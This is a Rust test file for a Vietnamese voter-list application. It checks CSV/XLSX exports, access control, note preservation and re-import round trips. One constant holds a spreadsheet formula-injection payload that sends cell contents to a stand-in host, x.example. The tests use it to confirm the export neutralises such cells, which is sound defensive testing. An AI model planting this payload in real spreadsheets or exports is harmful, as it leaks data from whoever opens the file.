//! CSV and XLSX exports of a polling area's list over HTTP on each engine: the rows and order
//! of the official list, formula-looking cells kept as text, and the PDF's access rules.

use crate::support::api::import_request;

use crate::support::{on_each_engine, Client, TestApp};
use crate::voter_lists::{election_with_two_areas, upload};

const HOSTILE: &str = "=HYPERLINK(\"http://x.example/?q=\"&A1,\"Bấm vào đây\")";

/// Area 1 gets three voters in this order, one named like a formula; area 2 one voter.
async fn ward_with_a_hostile_name(app: &TestApp) -> (Client, [i64; 2]) {
    let admin = app.admin().await;
    let (election_id, areas) = election_with_two_areas(&admin).await;
    let csv = format!(
        "STT;Họ và tên;Ngày sinh;Giới tính;Nơi thường trú;Khu vực bỏ phiếu;Chủ hộ\r\n\
         1;Nguyễn Văn An;05/07/1960;Nam;Số 1 khóm Thới An;1;x\r\n\
         2;\"{}\";1970;Nữ;Số 1, khóm Thới An;1;\r\n\
         3;Trần Thị Hương;03/1965;Nữ;\"Số 2; khóm Thới An\";1;x\r\n\
         4;Lê Văn Đức;1962;Nam;Khóm Đông Thịnh;2;x\r\n",
        HOSTILE.replace('"', "\"\"")
    );
    let token = upload(app, &admin, election_id, "ds.csv", csv.into_bytes()).await;
    let done = admin
        .voters_import_commit(&import_request(&token, election_id))
        .await;
    assert_eq!(
        done.body.as_i64(),
        Some(4),
        "[{}] {:?}",
        app.engine,
        done.body
    );
    (admin, areas)
}

pub(crate) async fn fetch(
    app: &TestApp,
    client: &Client,
    path: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let response = client
        .http
        .get(format!("{}{path}", app.base_url))
        .send()
        .await
        .expect("sent");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (
        status,
        headers,
        response.bytes().await.expect("body").to_vec(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_is_the_official_list_with_formulas_defused() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let (status, headers, body) = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.csv", areas[0]),
        )
        .await;
        assert_eq!(status, 200, "[{}]", app.engine);
        assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
        assert!(headers["content-disposition"]
            .to_str()
            .unwrap_or_default()
            .contains("danh-sach-cu-tri-kvbp-1.csv"));
        assert!(
            body.starts_with(b"\xEF\xBB\xBF"),
            "UTF-8 with a BOM for Excel"
        );
        let text = String::from_utf8(body[3..].to_vec()).expect("UTF-8");
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines[0], "DANH SÁCH CỬ TRI");
        assert!(
            lines[2].starts_with("Khu vực bỏ phiếu số 1: Khóm Thới An"),
            "{}",
            lines[2]
        );
        assert!(lines[3].starts_with("STT;Họ và tên;Ngày tháng năm sinh;Nam;Nữ;"));
        assert_eq!(
            lines[4], "1;Nguyễn Văn An;05/07/1960;x;;;;Số 1 khóm Thới An;;x;x;x;;;x;Hộ 1;",
            "[{}]",
            app.engine
        );
        // The formula-looking name gets a leading "'" and is quoted (it holds quotes).
        let expected_name = format!("\"'{}\"", HOSTILE.replace('"', "\"\""));
        assert_eq!(
            lines[5],
            format!("2;{expected_name};1970;;x;;;Số 1, khóm Thới An;;x;x;x;;;;Hộ 1;"),
            "[{}]",
            app.engine
        );
        assert!(lines[6].starts_with("3;Trần Thị Hương;03/1965;;x;;;\"Số 2; khóm Thới An\";"));
        assert_eq!(
            lines[7],
            "\"Tổng số cử tri của khu vực bỏ phiếu là: 3 người; trong đó có: 1 Nam; 2 Nữ.\""
        );
        assert!(!text.contains("Lê Văn Đức"), "only the area's own voters");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_xlsx_export_holds_the_same_rows_as_string_cells() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let (status, headers, body) = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.xlsx", areas[0]),
        )
        .await;
        assert_eq!(status, 200, "[{}]", app.engine);
        assert_eq!(
            headers["content-type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        // Read back with the importer's own reader: what a list office would re-import.
        let table = app::import::xlsx::read_xlsx(&body, None, None).expect("a valid workbook");
        let names: Vec<&str> = table.rows[4..7].iter().map(|r| r[1].as_str()).collect();
        // A formula cell would read back as its cached value; the name comes back as written.
        assert_eq!(
            names,
            ["Nguyễn Văn An", HOSTILE, "Trần Thị Hương"],
            "[{}]",
            app.engine
        );
        let stt: Vec<&str> = table.rows[4..7].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(stt, ["1", "2", "3"]);
        assert_eq!(table.rows[5][4], "x", "Nữ ticked");
        let csv = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.csv", areas[0]),
        )
        .await
        .2;
        let csv_rows = String::from_utf8(csv[3..].to_vec())
            .expect("UTF-8")
            .split("\r\n")
            .count()
            - 1;
        assert_eq!(table.rows.len(), csv_rows, "the same rows as the CSV");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_follow_the_list_pdf_access_rules() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let station = app.user_with_role(&admin, "tobaucu1", "station").await;
        let anonymous = app.client();
        for suffix in ["csv", "xlsx", "pdf"] {
            let path = format!("/voters/areas/{}/list.{suffix}", areas[0]);
            let (status, _, body) = fetch(&app, &station, &path).await;
            assert_eq!(status, 403, "[{}] station: {path}", app.engine);
            assert!(String::from_utf8_lossy(&body).contains("không có quyền"));
            let (status, headers, _) = fetch(&app, &anonymous, &path).await;
            assert_eq!(status, 303, "[{}] signed out: {path}", app.engine);
            assert_eq!(headers["location"], "/login");
        }
        for suffix in ["csv", "xlsx"] {
            let (status, _, _) =
                fetch(&app, &admin, &format!("/voters/areas/999999/list.{suffix}")).await;
            assert_eq!(status, 404, "[{}] unknown area", app.engine);
        }
    })
    .await;
}

/// A voter who votes elsewhere keeps their own notes beside the certificate in "Ghi chú".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_voter_voting_elsewhere_keeps_their_own_notes_in_the_export() {
    on_each_engine(|app| async move {
        let admin = app.admin().await;
        let (election_id, areas) = election_with_two_areas(&admin).await;
        let csv = "STT;Họ và tên;Ngày sinh;Giới tính;Khu vực bỏ phiếu;Ghi chú\r\n\
             1;Phạm Văn Bình;1950;Nam;1;Khiếm thị, cần người giúp\r\n";
        let token = upload(&app, &admin, election_id, "ds.csv", csv.as_bytes().to_vec()).await;
        let done = admin
            .voters_import_commit(&import_request(&token, election_id))
            .await;
        assert_eq!(
            done.body.as_i64(),
            Some(1),
            "[{}] {:?}",
            app.engine,
            done.body
        );
        let (voter,): (i64,) = sqlx::query_as("select id from voters where polling_area_id = $1")
            .bind(areas[0])
            .fetch_one(app.db.pool())
            .await
            .expect("the voter");
        let moved = admin
            .voters_set_status(voter, "elsewhere", "Đi làm ăn xa", Some("15/GCN"))
            .await;
        assert_eq!(moved.status, 200, "[{}] {:?}", app.engine, moved.body);
        let (status, _, export) = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.csv", areas[0]),
        )
        .await;
        assert_eq!(status, 200, "[{}]", app.engine);
        let text = String::from_utf8(export[3..].to_vec()).expect("UTF-8");
        let line = text
            .split("\r\n")
            .find(|line| line.contains("Phạm Văn Bình"))
            .expect("the voter's line");
        assert!(
            line.contains("Bỏ phiếu ở nơi khác (GCN số 15/GCN)")
                && line.contains("Khiếm thị, cần người giúp"),
            "[{}] {line}",
            app.engine
        );
    })
    .await;
}

/// An exported list imported again (into another election, as a ward does for the next one)
/// loses nothing: every field the import reads (name, birth, gender, ethnicity, occupation,
/// CCCD, addresses, start of temporary residence and so the levels, notes, head of household,
/// household) comes back equal, from the CSV and the XLSX alike. A removed voter is not in the
/// export, so does not come back as an active one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exported_list_imports_again_with_every_field() {
    on_each_engine(|app| async move {
        let admin = app.admin().await;
        let (election_id, areas) = election_with_two_areas(&admin).await;
        let csv = "STT;Họ và tên;Ngày sinh;Giới tính;Dân tộc;Nghề nghiệp;Số CCCD;Nơi thường trú;\
             Nơi tạm trú;Tạm trú từ ngày;Khu vực bỏ phiếu;Chủ hộ;Hộ gia đình;Ghi chú\r\n\
             1;Nguyễn Văn An;05/07/1960;Nam;Kinh;Nông dân;079060001234;Số 1 khóm Thới An;;;1;x;H1;\r\n\
             2;Trần Thị Hương;03/1965;Nữ;Kinh;Buôn bán;079165001235;Số 1 khóm Thới An;;;1;;H1;\r\n\
             3;Lê Văn Đức;1962;Nam;Khmer;Thợ hồ;;;Số 5 khóm Thới An;01/12/2024;1;x;H2;Ở trọ nhà bà Tư\r\n\
             4;Lê Thị Mai;1990;Nữ;Kinh;;;;Số 5 khóm Thới An;20/02/2026;1;;H2;\r\n\
             5;Phạm Văn Bình;1950;Nam;Hoa;Hưu trí;;Số 9 khóm Thới An;;;1;x;H3;Khiếm thị, cần người giúp\r\n";
        let token = upload(&app, &admin, election_id, "ds.csv", csv.as_bytes().to_vec()).await;
        let done = admin
            .voters_import_commit(&import_request(&token, election_id))
            .await;
        assert_eq!(
            done.body.as_i64(),
            Some(5),
            "[{}] {:?}",
            app.engine,
            done.body
        );
        let (removed,): (i64,) =
            sqlx::query_as("select id from voters where polling_area_id = $1 and stt = 2")
                .bind(areas[0])
                .fetch_one(app.db.pool())
                .await
                .expect("voter 2");
        let reply = admin
            .voters_set_status(removed, "removed", "Chuyển đi nơi khác", None)
            .await;
        assert_eq!(reply.status, 200, "[{}] {:?}", app.engine, reply.body);
        let original = listed(&app, areas[0]).await;
        assert_eq!(original.len(), 4, "[{}] the removed voter is not listed", app.engine);
        assert!(
            original.iter().any(|v| v.temporary_since.is_some()),
            "[{}] a temporary resident with a start date: {original:?}",
            app.engine
        );

        for suffix in ["csv", "xlsx"] {
            let (status, _, export) = fetch(
                &app,
                &admin,
                &format!("/voters/areas/{}/list.{suffix}", areas[0]),
            )
            .await;
            assert_eq!(status, 200, "[{}]", app.engine);
            if suffix == "csv" {
                let text = String::from_utf8(export[3..].to_vec()).expect("UTF-8");
                let lines: Vec<&str> = text.split("\r\n").collect();
                assert!(lines[3].ends_with(";Số CCCD;Chủ hộ;Hộ gia đình;Tạm trú từ ngày"), "{}", lines[3]);
                assert!(
                    lines[6].starts_with("4;Lê Thị Mai;1990;;x;Kinh;;;Số 5 khóm Thới An;")
                        && lines[6].ends_with(";;;Hộ 2;20/02/2026"),
                    "[{}] {}",
                    app.engine,
                    lines[6]
                );
                assert!(!text.contains("Trần Thị Hương"), "[{}] removed: {text}", app.engine);
            }
            let next = admin
                .voters_elections_create(
                    &format!("Bầu cử thử {suffix}"),
                    "15/03/2026",
                    Some("1"),
                    Some("1"),
                    Some("1"),
                )
                .await
                .body
                .as_i64()
                .expect("election");
            let area = admin
                .voters_areas_create(next, 1, "Khóm Thới An", "")
                .await
                .body
                .as_i64()
                .expect("area");
            let token = upload(&app, &admin, next, &format!("xuat.{suffix}"), export).await;
            let mut request = import_request(&token, next);
            request.default_area = Some(app::domain::ids::AreaId::new(area));
            let preview = admin.voters_import_preview(&request).await.body;
            assert_eq!(
                preview["Preview"]["can_commit"], true,
                "[{}] {suffix}: {preview}",
                app.engine
            );
            let done = admin.voters_import_commit(&request).await;
            assert_eq!(
                done.body.as_i64(),
                Some(4),
                "[{}] {suffix}: {:?}",
                app.engine,
                done.body
            );
            assert_eq!(
                listed(&app, area).await,
                original,
                "[{}] {suffix}",
                app.engine
            );
        }
    })
    .await;
}

/// A listed voter as stored, with the list position of their household's first member in
/// place of the household's id (households compared by shape, not by id).
#[derive(Debug, PartialEq)]
struct Listed {
    full_name: String,
    birth: (i64, Option<i64>, Option<i64>),
    gender: String,
    ethnicity: String,
    occupation: String,
    cccd: Option<String>,
    permanent_address: String,
    temporary_address: String,
    temporary_since: Option<String>,
    levels: i64,
    notes: String,
    status: String,
    is_head: i64,
    household: Option<usize>,
}

type Row = (
    String,
    i64,
    Option<i64>,
    Option<i64>,
    String,
    String,
    String,
    Option<String>,
    String,
    String,
    Option<String>,
    i64,
    String,
    String,
    i64,
    Option<i64>,
);

/// An area's listed (not removed) voters in list order.
async fn listed(app: &TestApp, area_id: i64) -> Vec<Listed> {
    let rows: Vec<Row> = sqlx::query_as(
        "select full_name, birth_year, birth_month, birth_day, gender, ethnicity, occupation, \
         cccd, permanent_address, temporary_address, temporary_since, levels, notes, status, \
         is_head, household_id from voters where polling_area_id = $1 and status <> 'removed' \
         order by stt",
    )
    .bind(area_id)
    .fetch_all(app.db.pool())
    .await
    .expect("voters");
    let mut first_seen: Vec<i64> = Vec::new();
    rows.into_iter()
        .map(
            |(
                full_name,
                year,
                month,
                day,
                gender,
                ethnicity,
                occupation,
                cccd,
                permanent_address,
                temporary_address,
                temporary_since,
                levels,
                notes,
                status,
                is_head,
                household,
            )| {
                let household = household.map(|id| {
                    first_seen
                        .iter()
                        .position(|seen| *seen == id)
                        .unwrap_or_else(|| {
                            first_seen.push(id);
                            first_seen.len() - 1
                        })
                });
                Listed {
                    full_name,
                    birth: (year, month, day),
                    gender,
                    ethnicity,
                    occupation,
                    cccd,
                    permanent_address,
                    temporary_address,
                    temporary_since,
                    levels,
                    notes,
                    status,
                    is_head,
                    household,
                }
            },
        )
        .collect()
}
